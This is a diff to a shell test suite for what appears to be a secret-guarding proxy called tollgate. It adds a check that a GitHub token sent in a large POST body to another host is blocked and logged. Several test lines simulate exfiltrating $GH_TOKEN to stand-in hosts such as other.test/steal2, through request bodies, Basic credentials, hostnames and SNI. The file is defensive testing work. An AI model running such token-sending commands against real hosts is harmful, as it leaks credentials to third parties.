@@ -46,6 +46,7 @@ echo "echo-header $(curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" 
 echo "echo-chunks $(curl -sS --max-time 20 -H "Authorization: Bearer $GH_TOKEN" https://origin.test/echo-chunks | sha256sum | cut -c1-64)"
 echo "misdirected-connect $(curl -s --max-time 20 -o /dev/null -w '%{http_connect}' "https://$GH_TOKEN.blind.test/")"
 echo "misdirected-sni $(echo | openssl s_client -proxy "${HTTPS_PROXY#http://}" -connect blind.test:443 -servername "$GH_TOKEN.blind.test" 2>&1 | grep -c 'BEGIN CERTIFICATE')"
+echo "misdirected-body $(head -c 20000 /dev/zero | tr '\0' 'p' >/tmp/body; echo "token=$GH_TOKEN" >>/tmp/body; curl -s --max-time 20 -o /dev/null -w '%{http_code}' --data-binary @/tmp/body https://other.test/post-body)"
 echo "misdirected-basic $(curl -s --max-time 20 -o /dev/null -w '%{http_code}' -u "octo:$GH_TOKEN" https://other.test/steal2)"
 SH
 
@@ -95,6 +96,8 @@ expect_eq "... also when every 7-byte chunk boundary cuts a value" "$(result ech
 expect_match "the placeholder sent to another inspected host is refused" \
 	"$(result misdirected)" "HTTP/1.1 403 .*X-Tollgate-Reason: secret-misdirected"
 expect_eq "... inside Basic credentials too" "$(result misdirected-basic)" "403"
+expect_eq "... in a request body (20000 bytes in)" "$(result misdirected-body)" "403"
+expect_eq "... which never reached the other host" "$(grep -c 'post-body' "$TEST_TMP/origin.log" || true)" "0"
 expect_eq "... in a CONNECT's host name" "$(result misdirected-connect)" "403"
 expect_eq "... in a blind tunnel's server_name (no TLS at all)" "$(result misdirected-sni)" "0"
 expect_eq "the other host never saw it" "$(grep -c 'steal' "$TEST_TMP/origin.log" || true)" "0"
@@ -104,7 +107,7 @@ expect_eq "the real value is not in the sandbox's output" "$(grep -c "$REAL" <<<
 expect_eq "... nor on tollgate's stderr" "$(grep -c "$REAL" "$TEST_TMP/err" || true)" "0"
 expect_eq "... nor in the audit database" "$(sqlite3 "$DB" .dump | grep -c "$REAL" || true)" "0"
 expect_eq "the audit row names the misdirected secret" \
-	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "4"
+	"$(audit_count "$DB" "reason='secret-misdirected' and detail like '%GH_TOKEN%'")" "5"
 expect_match "the injecting request's row names the secret" \
 	"$(sqlite3 "$DB" "select json_extract(detail,'\$.secrets_injected') from events where kind='connection' and json_extract(detail,'\$.path')='/with-bearer'")" \
 	"^GH_TOKEN$"
